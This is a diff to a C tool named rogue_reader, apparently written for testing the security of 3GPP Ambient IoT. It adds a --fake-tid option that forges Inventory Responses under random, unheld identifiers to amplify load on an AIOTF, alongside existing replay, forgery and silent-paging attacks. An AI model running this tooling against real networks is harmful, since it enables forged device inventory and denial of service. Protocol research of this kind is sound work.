@@ -8,7 +8,9 @@
  *   --replay FILE   the "inv HEX" lines of a rogue_air relay record: genuine Inventory
  *                   Responses of an earlier session, under an old RAND_AIOT_n;
  *   --forge FILE    devices.jsonl: a genuine identifier with a random RAND_AIOT_d and a
- *                   random RES_AIOT of the device's length (--forge-count N: the first N).
+ *                   random RES_AIOT of the device's length (--forge-count N: the first N);
+ *   --fake-tid N    N T-IDs nobody holds (random, drawn once), each with a random
+ *                   RAND_AIOT_d and RES_AIOT: the amplification of TS 33.369 NOTE 3.
  *
  * --silent accepts every Inventory Request (InventoryResponse) and never reports: the
  * AIOTF's paging stays open until its timeout (a reader whose devices never answer).
@@ -40,7 +42,7 @@
 static const char usage_text[] =
     "usage: rogue_reader --aiotf ADDR:PORT [--transport auto|sctp|tcp] [--gnb-id N]\n"
     "                    [--reader-index N] [--replay FILE] [--forge devices.jsonl\n"
-    "                    [--forge-count N]] [--requests N] [--unsolicited N]\n"
+    "                    [--forge-count N]] [--fake-tid N] [--requests N] [--unsolicited N]\n"
     "                    [--before-setup N] [--pace-us N] [--linger-ms N] [--timeout-s N]\n"
     "                    [--silent]\n";
 
@@ -142,6 +144,26 @@ static int load_forge(const char *path, size_t max)
 	free(line);
 	fclose(f);
 	return 0;
+}
+
+/* n Inventory Responses under random T-IDs (identifier privacy), 8-octet RES. */
+static void load_fake_tids(unsigned long n)
+{
+	if (n == 0)
+		return;
+	if ((R.forge = realloc(R.forge, (R.nforge + n) * sizeof *R.forge)) == NULL)
+		die_oom();
+	for (unsigned long i = 0; i < n; i++) {
+		uint8_t tid[16];
+		if (getrandom(tid, sizeof tid, 0) != (ssize_t)sizeof tid)
+			die_oom();
+		aiot_nas_inventory_response m = {
+		    .res_len = 8, .id_type = AIOT_NAS_ID_TID, .id = tid, .id_len = 16};
+		int len = aiot_nas_encode_inventory_response(&m, R.forge[R.nforge].b, AIOT_NAS_MAX_PDU);
+		if (len <= 0)
+			die_oom();
+		R.forge[R.nforge++].len = (uint16_t)len;
+	}
 }
 
 static void finish(int rc)
@@ -343,10 +365,11 @@ int main(int argc, char **argv)
 	    {"linger-ms", required_argument, NULL, 12},
 	    {"timeout-s", required_argument, NULL, 13},
 	    {"silent", no_argument, NULL, 14},
+	    {"fake-tid", required_argument, NULL, 15},
 	    {NULL, 0, NULL, 0},
 	};
 	const char *aiotf = NULL, *transport = "auto", *replay = NULL, *forge = NULL;
-	unsigned long forge_count = 0, timeout_s = 60;
+	unsigned long forge_count = 0, timeout_s = 60, fake_tids = 0;
 	char err[256];
 	int o;
 	while ((o = getopt_long(argc, argv, "", opts, NULL)) != -1) {
@@ -393,6 +416,9 @@ int main(int argc, char **argv)
 		case 14:
 			R.silent = 1;
 			break;
+		case 15:
+			fake_tids = strtoul(optarg, NULL, 0);
+			break;
 		default:
 			fputs(usage_text, stderr);
 			return 1;
@@ -404,9 +430,14 @@ int main(int argc, char **argv)
 	}
 	if ((replay && load_replay(replay) != 0) || (forge && load_forge(forge, forge_count) != 0))
 		return 1;
+	if (fake_tids > NGAP_MAX_DEVICES) {
+		fprintf(stderr, "rogue_reader: --fake-tid: at most %u\n", NGAP_MAX_DEVICES);
+		return 1;
+	}
+	load_fake_tids(fake_tids);
 	if ((!R.silent && R.nreplay + R.nforge == 0) || R.nreplay + R.nforge > NGAP_MAX_DEVICES) {
 		fprintf(stderr,
-		        "rogue_reader: 1..%u Inventory Responses needed (--replay/--forge)\n",
+		        "rogue_reader: 1..%u Inventory Responses needed (--replay/--forge/--fake-tid)\n",
 		        NGAP_MAX_DEVICES);
 		return 1;
 	}
